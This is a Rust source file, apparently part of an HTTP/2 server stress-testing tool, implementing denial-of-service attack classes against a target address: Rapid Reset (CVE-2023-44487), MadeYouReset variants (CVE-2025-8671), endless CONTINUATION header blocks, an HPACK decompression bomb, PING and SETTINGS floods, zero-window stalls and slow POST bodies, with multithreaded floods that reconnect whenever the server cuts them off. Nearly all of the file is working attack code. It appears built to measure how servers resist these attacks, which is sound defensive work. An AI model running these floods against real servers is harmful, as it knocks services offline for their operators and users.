//! The attack classes. Each runs for a bounded time; a flood reconnects when the server
//! cuts a connection off (as a real attacker would) and every connection's fate is kept.

use std::sync::Mutex;
use std::time::{Duration, Instant};

use crate::conn::{Conn, Setup};
pub use crate::opts::Opts;
use crate::report::{End, Outcome};
use crate::wire::{self, flag, kind, setting};

/// The classes, with the unit each counts and what it does.
pub const CLASSES: &[(&str, &str, &str)] = &[
    ("rapid-reset", "streams", "HEADERS then RST_STREAM(CANCEL) at once, 50 streams per write (CVE-2023-44487)"),
    ("myr-window", "streams", "MadeYouReset: HEADERS then WINDOW_UPDATE 0 on the stream (CVE-2025-8671)"),
    ("myr-data", "streams", "MadeYouReset: HEADERS with END_STREAM then DATA on the half-closed stream"),
    ("myr-priority", "streams", "MadeYouReset: HEADERS then PRIORITY making the stream depend on itself"),
    ("continuation-small", "frames", "a header block that never ends: 7-byte CONTINUATION frames"),
    ("continuation-large", "frames", "a header block that never ends: 16 KB CONTINUATION frames"),
    ("continuation-empty", "frames", "a header block that never ends: empty CONTINUATION frames"),
    (
        "hpack-greedy",
        "streams",
        "HPACK bomb: a 4 KB table entry referenced ~16k times per request (~66 MB decoded), as fast as possible",
    ),
    ("hpack-polite", "streams", "HPACK bomb, at most --in-flight (50) requests outstanding"),
    ("ping-flood", "frames", "PINGs as fast as possible, never reading"),
    ("settings-flood", "frames", "SETTINGS frames as fast as possible, never reading"),
    ("zero-window", "streams", "SETTINGS_INITIAL_WINDOW_SIZE=0, --streams GETs, never a WINDOW_UPDATE"),
    ("zero-window-ping", "streams", "zero-window, and a PING every --interval"),
    ("slow-post", "bytes", "HTTP/1.1 POST with Content-Length 8192, 50 body bytes every --interval"),
    ("slow-post-h2", "bytes", "HTTP/2 POST with content-length 8192, 50 body bytes every --interval"),
];

/// Counts of what a connection sent.
#[derive(Default)]
struct Count {
    units: u64,
    streams: u64,
}

const BATCH: u32 = 50;

/// Runs `class`; returns its unit and the connections' outcomes.
pub fn run(class: &str, o: &Opts) -> Result<(&'static str, Vec<Outcome>), String> {
    let (name, unit, _) = *CLASSES.iter().find(|c| c.0 == class).ok_or_else(|| format!("unknown class {class}"))?;
    let outcomes = match name {
        "rapid-reset" => flood(o, Setup::default(), rapid_reset),
        "myr-window" => flood(o, Setup::default(), |c, o, d, n| made_you_reset(c, o, d, n, Provoke::WindowUpdate)),
        "myr-data" => flood(o, Setup::default(), |c, o, d, n| made_you_reset(c, o, d, n, Provoke::Data)),
        "myr-priority" => flood(o, Setup::default(), |c, o, d, n| made_you_reset(c, o, d, n, Provoke::Priority)),
        "continuation-small" => flood(o, Setup::default(), |c, o, d, n| continuation(c, o, d, n, 7)),
        "continuation-large" => flood(o, Setup::default(), |c, o, d, n| continuation(c, o, d, n, 16_384)),
        "continuation-empty" => flood(o, Setup::default(), |c, o, d, n| continuation(c, o, d, n, 0)),
        "hpack-greedy" => flood(o, Setup::default(), |c, o, d, n| hpack_bomb(c, o, d, n, None)),
        "hpack-polite" => flood(o, Setup::default(), |c, o, d, n| hpack_bomb(c, o, d, n, Some(o.in_flight))),
        "ping-flood" => {
            flood(o, Setup { read: false, ..Setup::default() }, |c, _, d, n| control_flood(c, d, n, kind::PING))
        }
        "settings-flood" => {
            flood(o, Setup { read: false, ..Setup::default() }, |c, _, d, n| control_flood(c, d, n, kind::SETTINGS))
        }
        "zero-window" => vec![zero_window(o, None)],
        "zero-window-ping" => vec![zero_window(o, Some(o.interval))],
        "slow-post" => vec![crate::h1::slow_post(o)],
        "slow-post-h2" => vec![slow_post_h2(o)],
        _ => unreachable!("listed above"),
    };
    Ok((unit, outcomes))
}

type Attack = fn(&mut Conn, &Opts, Instant, &mut Count);

/// `o.conns` attackers, each connecting again whenever the server cut it off, until the
/// run's time is up.
fn flood(o: &Opts, setup: Setup, attack: Attack) -> Vec<Outcome> {
    let deadline = Instant::now() + o.duration;
    let out = Mutex::new(Vec::new());
    std::thread::scope(|s| {
        for _ in 0..o.conns.max(1) {
            s.spawn(|| {
                while Instant::now() < deadline {
                    let mut c = match Conn::open(o.addr, setup) {
                        Ok(c) => c,
                        Err(e) => {
                            let oc = Outcome { end: End::Error(format!("connect: {e}")), ..Outcome::default() };
                            out.lock().unwrap().push(oc);
                            std::thread::sleep(Duration::from_millis(50));
                            continue;
                        }
                    };
                    let mut n = Count::default();
                    c.wait_settings(Instant::now() + Duration::from_secs(1));
                    attack(&mut c, o, deadline, &mut n);
                    // Once cut off, wait (briefly) for the close, to see how it comes.
                    let linger = if Instant::now() < deadline { Duration::from_secs(1) } else { Duration::ZERO };
                    let mut oc = c.finish(linger);
                    oc.units = n.units;
                    oc.streams = n.streams;
                    out.lock().unwrap().push(oc);
                }
            });
        }
    });
    out.into_inner().unwrap()
}

/// Whether the attack on this connection should go on. It first lets the connection's
/// reader run (on a shared core a sending loop would otherwise hold it off for a time
/// slice, and the server's GOAWAY would be seen, and timed, milliseconds late).
fn going(c: &Conn, deadline: Instant) -> bool {
    std::thread::yield_now();
    Instant::now() < deadline && !c.is_over() && !c.got_goaway()
}

fn rapid_reset(c: &mut Conn, o: &Opts, deadline: Instant, n: &mut Count) {
    let block = wire::request_block("GET", &o.path, &o.authority);
    let mut id = 1u32;
    let mut buf = Vec::with_capacity(8192);
    while going(c, deadline) && id < wire::MAX_WINDOW - 2 * BATCH {
        buf.clear();
        for _ in 0..BATCH {
            wire::frame(&mut buf, kind::HEADERS, flag::END_STREAM | flag::END_HEADERS, id, &block);
            wire::rst_stream(&mut buf, id, 0x8);
            id += 2;
        }
        if c.send(&buf, deadline).is_err() {
            break;
        }
        n.units += u64::from(BATCH);
        n.streams += u64::from(BATCH);
    }
}

#[derive(Clone, Copy)]
enum Provoke {
    WindowUpdate,
    Data,
    Priority,
}

/// MadeYouReset: each stream is followed by a frame the server must answer with a stream
/// error (RST_STREAM), so the client never resets anything itself.
fn made_you_reset(c: &mut Conn, o: &Opts, deadline: Instant, n: &mut Count, how: Provoke) {
    let block = wire::request_block("GET", &o.path, &o.authority);
    let mut id = 1u32;
    let mut buf = Vec::with_capacity(8192);
    while going(c, deadline) && id < wire::MAX_WINDOW - 2 * BATCH {
        if matches!(how, Provoke::Data) && !c.take_window(i64::from(BATCH), deadline) {
            break;
        }
        buf.clear();
        for _ in 0..BATCH {
            wire::frame(&mut buf, kind::HEADERS, flag::END_STREAM | flag::END_HEADERS, id, &block);
            match how {
                Provoke::WindowUpdate => wire::window_update(&mut buf, id, 0),
                Provoke::Data => wire::frame(&mut buf, kind::DATA, flag::END_STREAM, id, b"x"),
                Provoke::Priority => wire::priority(&mut buf, id, id),
            }
            id += 2;
        }
        if c.send(&buf, deadline).is_err() {
            break;
        }
        n.units += u64::from(BATCH);
        n.streams += u64::from(BATCH);
    }
}

/// A header block that never ends: HEADERS without END_HEADERS, then CONTINUATION frames
/// of `size` bytes, each holding whole literal fields (a server that decodes as it goes
/// finds nothing wrong with them).
fn continuation(c: &mut Conn, o: &Opts, deadline: Instant, n: &mut Count, size: usize) {
    let mut buf = Vec::new();
    wire::frame(&mut buf, kind::HEADERS, flag::END_STREAM, 1, &wire::request_block("GET", &o.path, &o.authority));
    if c.send(&buf, deadline).is_err() {
        return;
    }
    n.streams = 1;
    let fragment = match size {
        0 => Vec::new(),
        7 => {
            let mut f = Vec::new();
            wire::literal(&mut f, b"x-a", b"b");
            f
        }
        _ => {
            // One field filling the frame: 1 + 1 + 3 (name) + 3 (length) + value.
            let mut f = Vec::new();
            wire::literal(&mut f, b"x-l", &vec![b'l'; size - 8]);
            debug_assert_eq!(f.len(), size);
            f
        }
    };
    let per = (64 * 1024 / (9 + fragment.len())).max(1);
    buf.clear();
    for _ in 0..per {
        wire::frame(&mut buf, kind::CONTINUATION, 0, 1, &fragment);
    }
    while going(c, deadline) {
        if c.send(&buf, deadline).is_err() {
            break;
        }
        n.units += per as u64;
    }
}

/// HPACK bomb: stream 1 stores a 4,000-byte field in the server's dynamic table (entry
/// 62); every later request references it until its block fills a 16,384-byte frame
/// (~16k references, ~66 MB decoded). `polite`: at most that many requests outstanding.
fn hpack_bomb(c: &mut Conn, o: &Opts, deadline: Instant, n: &mut Count, polite: Option<usize>) {
    let mut first = wire::request_block("GET", &o.path, &o.authority);
    wire::literal_indexed(&mut first, b"x-bomb", &[b'v'; 4000]);
    let mut buf = Vec::new();
    wire::frame(&mut buf, kind::HEADERS, flag::END_STREAM | flag::END_HEADERS, 1, &first);
    c.opened(1);
    if c.send(&buf, deadline).is_err() {
        return;
    }
    n.streams = 1;
    let mut bomb = wire::request_block("GET", &o.path, &o.authority);
    while bomb.len() < 16_384 {
        wire::indexed(&mut bomb, 62);
    }
    let mut id = 3u32;
    while going(c, deadline) && id < wire::MAX_WINDOW - 16 {
        let k = match polite {
            Some(max) => {
                c.wait_in_flight_below(max, deadline);
                if !going(c, deadline) {
                    break;
                }
                max.saturating_sub(c.in_flight()).clamp(1, 8)
            }
            None => 4,
        };
        buf.clear();
        for _ in 0..k {
            wire::frame(&mut buf, kind::HEADERS, flag::END_STREAM | flag::END_HEADERS, id, &bomb);
            c.opened(id);
            id += 2;
        }
        if c.send(&buf, deadline).is_err() {
            break;
        }
        n.units += k as u64;
        n.streams += k as u64;
    }
}

/// PING or SETTINGS frames as fast as the socket takes them, never reading the answers.
fn control_flood(c: &mut Conn, deadline: Instant, n: &mut Count, what: u8) {
    const PER: usize = 1000;
    let mut buf = Vec::with_capacity(PER * 17);
    for i in 0..PER {
        if what == kind::PING {
            wire::ping(&mut buf, false, (i as u64).to_be_bytes());
        } else {
            wire::settings(&mut buf, &[(setting::ENABLE_PUSH, 0)]);
        }
    }
    while Instant::now() < deadline && !c.is_over() {
        if c.send(&buf, deadline).is_err() {
            break;
        }
        n.units += PER as u64;
    }
}

/// A client that takes responses it never lets through: window 0 on every stream, no
/// WINDOW_UPDATE, ever; with `ping`, a PING that often (chatter that must not count as
/// progress). One connection, to see when (and how) the server lets go.
fn zero_window(o: &Opts, ping: Option<Duration>) -> Outcome {
    let deadline = Instant::now() + o.duration;
    let setup = Setup { initial_window: 0, open_connection_window: false, read: true };
    let mut c = match Conn::open(o.addr, setup) {
        Ok(c) => c,
        Err(e) => return Outcome { end: End::Error(format!("connect: {e}")), ..Outcome::default() },
    };
    let block = wire::request_block("GET", &o.path, &o.authority);
    let mut buf = Vec::new();
    for i in 0..o.streams {
        let id = 2 * i + 1;
        wire::frame(&mut buf, kind::HEADERS, flag::END_STREAM | flag::END_HEADERS, id, &block);
        c.opened(id);
    }
    let _ = c.send(&buf, deadline);
    let mut next_ping = ping.map(|p| Instant::now() + p);
    let mut pings = 0u64;
    while Instant::now() < deadline && !c.is_over() {
        if let (Some(at), Some(p)) = (next_ping, ping) {
            if Instant::now() >= at {
                buf.clear();
                pings += 1;
                wire::ping(&mut buf, false, pings.to_be_bytes());
                let _ = c.send(&buf, deadline);
                next_ping = Some(at + p);
            }
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    let mut oc = c.finish(Duration::ZERO);
    oc.streams = u64::from(o.streams);
    oc.units = u64::from(o.streams);
    oc
}

/// A POST whose body trickles in: 50 bytes every `interval` of a declared 8,192, on one
/// HTTP/2 stream. The cut-off is the server resetting the stream (or the connection).
fn slow_post_h2(o: &Opts) -> Outcome {
    let deadline = Instant::now() + o.duration;
    let mut c = match Conn::open(o.addr, Setup::default()) {
        Ok(c) => c,
        Err(e) => return Outcome { end: End::Error(format!("connect: {e}")), ..Outcome::default() },
    };
    let mut block = wire::request_block("POST", &o.path, &o.authority);
    wire::literal_name_ref(&mut block, 28, b"8192"); // content-length
    wire::literal_name_ref(&mut block, 31, b"application/x-www-form-urlencoded"); // content-type
    let mut buf = Vec::new();
    wire::frame(&mut buf, kind::HEADERS, flag::END_HEADERS, 1, &block);
    c.opened(1);
    let mut sent = 0u64;
    let mut next = Instant::now();
    loop {
        let stream_reset = c.got_rst();
        if Instant::now() >= deadline || c.is_over() || stream_reset {
            break;
        }
        if Instant::now() >= next && sent < 8192 {
            let piece = 50.min(8192 - sent as usize);
            let end = sent + piece as u64 == 8192;
            wire::frame(&mut buf, kind::DATA, if end { flag::END_STREAM } else { 0 }, 1, &vec![b'a'; piece]);
            if c.send(&buf, deadline).is_err() {
                break;
            }
            buf.clear();
            sent += piece as u64;
            next += o.interval;
        }
        std::thread::sleep(Duration::from_millis(5));
    }
    let mut oc = c.finish(Duration::ZERO);
    oc.stream_cut = oc.first_rst;
    oc.units = sent;
    oc.streams = 1;
    oc
}
